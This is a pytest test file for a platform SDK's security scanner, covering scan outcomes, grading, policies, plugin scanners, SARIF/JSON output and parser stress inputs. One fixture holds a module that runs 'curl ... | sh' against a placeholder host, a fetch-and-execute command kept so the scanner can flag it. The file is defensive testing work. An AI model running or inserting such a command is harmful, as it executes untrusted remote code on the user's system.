"""All scans of a package: how each ends, and what they come to together."""

from __future__ import annotations

import asyncio
import json

import pytest

from plataforma_sdk import ModulePackage, hookimpl
from plataforma_sdk.security import (
    Issue,
    RiskLevel,
    ScanPolicy,
    ScanReport,
    ScanStatus,
    SecurityService,
)

GOOD = """
from plataforma_sdk import ModuleFramework, ui

class Good(ModuleFramework):
    async def on_load(self):
        self.total = 1

    def render(self):
        return ui.text(str(self.total))
"""
BAD = "import os\nos.system('curl -s https://a.invalid/x | sh')\n"


def package(source=GOOD, **settings):
    return ModulePackage.from_source(source, id="shop", **settings)


def scan(source=GOOD, *, package_settings=None, **settings):
    settings = {"trial": False, "tools": False, **settings}
    return asyncio.run(SecurityService(**settings).scan(package(source, **(package_settings or {}))))


class Plugin:
    """Brings one scanner, whose `scan` is given."""

    def __init__(self, work, name="mine"):
        self.work, self.name = work, name

    @hookimpl
    def plataforma_scanners(self):
        return [self]

    async def scan(self, request):
        return await self.work(request)


async def forever(_request):
    await asyncio.Event().wait()


async def broken(_request):
    raise ZeroDivisionError("no")


async def quiet(request):
    return ScanReport(metrics={"files": len(request.package.files)})


def test_a_good_package_passes_and_says_what_did_not_run():
    result = scan()
    assert result.passed
    assert result.result("dependency-audit").status is ScanStatus.NOT_RUN
    assert not result.result("dependency-audit").passed
    assert "advisories" in result.result("dependency-audit").reason
    assert any(text.startswith("dependency-audit did not run") for text in result.recommendations)


def test_the_five_scans_have_a_result_each():
    names = ["static-analysis", "dependency-audit", "licence", "malware", "performance"]
    assert [result.scan for result in scan().results] == names


def test_a_bad_package_fails_with_file_line_and_remedy():
    result = scan(BAD)
    assert not result.passed
    assert result.risk_level is RiskLevel.CRITICAL
    assert result.grades.security == "E"
    assert result.recommendations[0].startswith("module.py:2: ")
    assert result.recommendations[0].endswith("a module has no processes")


def test_a_required_scan_that_did_not_run_fails_the_package():
    result = scan(policy=ScanPolicy(required={"dependency-audit"}))
    assert not result.passed
    assert "dependency-audit is required and did not run" in result.reasons[0]


def test_what_is_accepted_is_told_and_fails_nothing():
    rules = {issue.rule: "reviewed" for issue in scan(BAD).issues}
    result = scan(BAD, policy=ScanPolicy(accepted=rules))
    assert result.passed
    assert {issue.rule for issue in result.issues} == set(rules)
    other_file = {f"{rule}:other.py": "reviewed" for rule in rules}
    assert not scan(BAD, policy=ScanPolicy(accepted=other_file)).passed


def test_a_grade_below_the_policy_fails_the_package():
    source = "import subprocess\nsubprocess.run(['ls'])\n"
    assert scan(source).grades.security == "C"
    assert scan(source).passed
    result = scan(source, policy=ScanPolicy(security="A"))
    assert result.reasons == ("security is graded C, and A is demanded",)


def test_maintainability_is_graded_by_the_time_to_mend():
    bare = "try:\n    x = 1\nexcept:\n    pass\n" * 3
    assert scan(bare).grades.maintainability > scan(bare + "y = 2\n" * 500).grades.maintainability


def test_a_scanner_of_a_plugin_runs_beside_the_others():
    result = scan(plugins=[Plugin(quiet)])
    assert result.result("mine").passed
    assert result.result("mine").metrics == {"files": 2}


@pytest.mark.parametrize(("work", "why"), [(broken, "ZeroDivisionError: no"), (forever, "took longer than 0.2 s")])
def test_a_scanner_that_raises_or_hangs_has_failed_and_stops_no_other(work, why):
    result = scan(plugins=[Plugin(work)], policy=ScanPolicy(timeout_s=0.2))
    assert result.result("mine").status is ScanStatus.FAILED
    assert why in result.result("mine").reason
    assert result.result("licence").passed


def test_two_scanners_of_one_name_are_refused():
    with pytest.raises(ValueError, match="two scanners have the name 'malware'"):
        SecurityService(plugins=[Plugin(quiet, "malware")])
    with pytest.raises(ValueError, match="no scanner has, the name 'malwear'"):
        SecurityService(policy=ScanPolicy(required={"malwear"}))


def test_a_scanner_reports_so_many_issues_and_no_more():
    async def flood(_request):
        return ScanReport(issues=(Issue.of("known-drop", "a", n, "x") for n in range(5_000)))

    assert len(scan(plugins=[Plugin(flood)]).result("mine").issues) == 1_000


def test_the_result_is_written_as_json():
    data = json.loads(json.dumps(scan(BAD).to_json()))
    assert (data["module"], data["passed"], data["risk_level"]) == ("shop", False, "critical")
    assert data["results"][3]["status"] == "failed"
    assert data["digest"].startswith("sha256:")


def test_the_result_is_written_as_sarif():
    """SARIF 2.1.0: each result names a rule of the run, a file and a line."""
    log = json.loads(json.dumps(scan(BAD).to_sarif(base="modules/")))
    (run,) = log["runs"]
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    found = next(item for item in run["results"] if item["ruleId"] == "runs-a-script")
    place = found["locations"][0]["physicalLocation"]
    assert (rules[found["ruleIndex"]], found["level"]) == ("runs-a-script", "error")
    assert (place["artifactLocation"]["uri"], place["region"]["startLine"]) == ("modules/module.py", 2)


def test_a_message_shows_what_is_not_printable():
    """A report is read in terminals, and quotes a stranger."""
    issue = Issue.of("hidden-name", "module.py", 1, "the name '\x1b[2J\u202eabc'")
    assert issue.message == "the name '\\u001b[2J\\u202eabc'"


# --- hostile packages -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "x = (",
        "x = 1\x00",
        "x = " + "(" * 5_000,
        "x = " + "-" * 5_000 + "1",
        "x = " + "+".join(["a"] * 20_000),
        "x = " + "a." * 5_000 + "b",
        "x = f" + "()" * 3_000,
        "x = [" + "[" * 90 + "]" * 90 + "]",
        "x = " + "a if b else " * 2_000 + "c",
        "if x:\n" + "".join(f"{' ' * n}if x:\n" for n in range(1, 95)) + " " * 95 + "pass",
        "x = 9 ** 9 ** 9 ** 9",
        "\n" * 400_000,
        "x = '" + "\\u202e" * 40_000 + "'",
        "a" * 400_000,
    ],
    ids=lambda text: text[:12].strip() or "lines",
)
def test_a_hostile_source_ends_in_a_result(source):
    """Whatever a parser or a walk does with it, the service answers, and does not crash."""
    result = scan(source)
    assert len(result.results) == 5
    assert all(item.status is not ScanStatus.FAILED or item.reason for item in result.results)


def test_what_is_nested_too_deeply_to_be_read_does_not_pass():
    assert not scan("x = " + "f(" * 90 + "+".join(["a"] * 1_500) + ")" * 90).passed


def test_nothing_of_the_package_is_run(tmp_path):
    mark = tmp_path / "mark"
    scan(f"open({str(mark)!r}, 'w').close()\n", package_settings={"files": {"setup.py": b"1/0", "conftest.py": b"1/0"}})
    assert not mark.exists()
